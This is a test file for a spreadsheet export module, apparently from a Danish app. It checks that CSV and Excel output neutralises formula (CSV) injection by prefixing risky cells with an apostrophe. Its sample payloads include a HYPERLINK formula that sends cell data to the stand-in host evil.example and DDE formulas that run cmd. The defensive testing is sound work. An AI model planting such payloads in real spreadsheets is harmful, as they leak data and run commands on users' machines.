import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { neutralised, toCsv, toXlsx } from '../../src/export/files';

// What people typed goes into spreadsheets as text a spreadsheet will not run (OWASP, CSV injection).
const attacks = [
  '=HYPERLINK("https://evil.example/?d="&A2,"Klik")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A2)', '\t=1+1', '\r=1+1', '=cmd|\'/C notepad\'!A1',
];
const harmless = ['Bedre overlevering', '5 – Kan lære andre', ' =not first', "'already quoted", '', 'a=b', '2+2'];

describe('spreadsheet cells from what people typed', () => {
  it.each(attacks)('when a cell begins like a formula (%j), then it gets a leading apostrophe', (attack) => {
    expect(neutralised(attack)).toBe(`'${attack}`);
  });

  it.each(harmless)('when a cell does not (%j), then it is left as it is', (text) => {
    expect(neutralised(text)).toBe(text);
  });

  it('when the attacks are written to CSV and read back, then every one is text beginning with an apostrophe, still readable; numbers stay numbers', () => {
    const sheet = { name: '=Afdeling', columns: ['Mål', '-Tal'], rows: [...attacks.map((a) => [a, -1.5]), ...harmless.map((h) => [h, 2])] };
    const text = toCsv([sheet, { ...sheet, name: 'Anden' }], 'da').toString('utf8').replace(/^\uFEFF/, '');
    const rows = parse(text, { delimiter: ';', relax_column_count: true }) as string[][];
    expect(rows[0]).toEqual(["'=Afdeling"]);
    expect(rows[1]).toEqual(['Mål', "'-Tal"]);
    expect(rows.slice(2, 2 + attacks.length)).toEqual(attacks.map((a) => [`'${a}`, '-1,5']));
    expect(rows.slice(2 + attacks.length, 2 + attacks.length + harmless.length).map((r) => r[0])).toEqual(harmless);
  });

  it('when two sheets go into one CSV, then each follows the other under its name, numbers in Danish, nothing lost', () => {
    const text = toCsv([
      { name: 'Nord', columns: ['Mål', 'Tal'], rows: [['=1+1', 1234.567]] },
      { name: '+Syd', columns: ['Mål'], rows: [['ok; "citat"']] },
    ], 'da').toString('utf8');
    expect(text).toBe(`\uFEFFNord\r\nMål;Tal\r\n'=1+1;1234,57\r\n\r\n'+Syd\r\nMål\r\n"ok; ""citat"""\r\n`);
  });

  it('when the attacks are written to Excel and read back, then every one is a text cell with the typed text, never a formula', async () => {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(Uint8Array.from(await toXlsx([{ name: 'Ark', columns: ['Mål', 'Tal'], rows: attacks.map((a) => [a, 3]) }], 'da')).buffer);
    const ws = workbook.worksheets[0]!;
    attacks.forEach((attack, i) => {
      const cell = ws.getRow(i + 2).getCell(1);
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      // (XML turns a carriage return into a line feed.)
      expect(cell.value).toBe(attack.replace(/\r/g, '\n'));
      expect(cell.formula).toBeUndefined();
      expect(ws.getRow(i + 2).getCell(2).value).toBe(3);
    });
  });
});
